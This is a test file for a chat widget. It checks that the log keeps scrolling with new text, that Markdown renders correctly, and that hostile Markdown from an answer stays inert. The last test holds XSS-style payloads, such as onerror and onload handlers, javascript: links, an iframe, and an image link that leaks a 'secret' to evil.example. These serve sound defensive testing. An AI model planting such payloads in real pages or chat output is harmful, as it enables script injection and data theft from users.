import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { plainConfig } from '../dev/fake-parley.ts'
import { showcase } from '../dev/showcase.ts'
import { startWidgetScene, type Visitor, type WidgetScene } from './widget-scene.ts'

let scene: WidgetScene

beforeAll(async () => {
  scene = await startWidgetScene()
})
afterAll(() => scene.stop())
beforeEach(() => {
  scene.parley.configure(plainConfig)
})

async function visitAndOpen(...options: Parameters<WidgetScene['visit']>): Promise<Visitor> {
  const visitor = await scene.visit(...options)
  await visitor.open()
  return visitor
}

test('the log stays at its end, unless the reader went up', async () => {
  const visitor = await visitAndOpen()
  const log = visitor.chat.getByRole('log')
  const fromEnd = () => log.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight)
  const next = scene.nextAnswer()
  await visitor.ask('Many lines')
  const answer = await next
  for (let line = 0; line < 60; line += 1) answer.say(`Line ${line}\n\n`)
  await visitor.chat.getByText('Line 59').waitFor()
  await expect.poll(fromEnd).toBeLessThan(2)

  await log.evaluate((element) => element.scrollTo(0, 100))
  await expect.poll(fromEnd).toBeGreaterThan(500)
  answer.say('The end.')
  await visitor.chat.getByText('The end.').waitFor()
  expect(await log.evaluate((element) => element.scrollTop)).toBe(100)
  answer.end('complete')
  await visitor.ask('One more')

  await visitor.chat.getByText('You said: One more').waitFor()
  await expect.poll(fromEnd).toBeLessThan(2)
})

describe('Markdown', () => {
  test('becomes elements', async () => {
    const visitor = await visitAndOpen()
    const next = scene.nextAnswer()
    await visitor.ask('Everything')
    const answer = await next
    for (const piece of showcase.match(/[\s\S]{1,3}/g) ?? []) answer.say(piece)
    answer.end('complete')
    const { chat } = visitor
    await chat.getByRole('link', { name: 'the page about light' }).waitFor()

    expect(await chat.getByRole('table').getByRole('row').count()).toBe(3)
    expect(await chat.locator('ol > li').count()).toBe(3)
    expect(await chat.locator('ol ul > li').count()).toBe(2)
    expect(await chat.locator('pre code').innerText()).toContain("findLamp({ warmth: 'high'")
    expect(await chat.locator('blockquote').innerText()).toBe('A dimmer makes any lamp a little warmer.')
    const link = chat.getByRole('link', { name: 'the page about light' })
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  })

  test('of an attacker is text, and asks for nothing anywhere', async () => {
    const visitor = await visitAndOpen()
    const elsewhere: string[] = []
    visitor.page.on('request', (request) => {
      if (!request.url().startsWith(scene.parley.origin)) elsewhere.push(request.url())
    })
    const next = scene.nextAnswer()
    await visitor.ask('Attack')
    const answer = await next
    const attack = [
      '<img src=https://evil.example/a.png onerror="document.title=1">',
      '![stolen](https://evil.example/b.png?secret=1)',
      '<script>document.title = 1</script><svg onload="document.title=1">',
      '[click](javascript:document.title=1) <a href="javascript:document.title=1">here</a>',
      '<iframe src="https://evil.example"></iframe><style>*{display:none}</style>',
    ].join('\n\n')
    for (const piece of attack.match(/[\s\S]{1,5}/g) ?? []) answer.say(piece)
    answer.end('complete')
    await visitor.chat.getByText('*{display:none}').waitFor()

    const made = await visitor.chat
      .locator('.markdown')
      .last()
      .evaluate((element) => [...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName))])
    expect(made.sort()).toEqual(['A', 'P'])
    const links = await visitor.chat.locator('.markdown a').all()
    for (const link of links) expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.example\//)
    expect(elsewhere).toEqual([])
    expect(visitor.problems).toEqual([])
  })
})
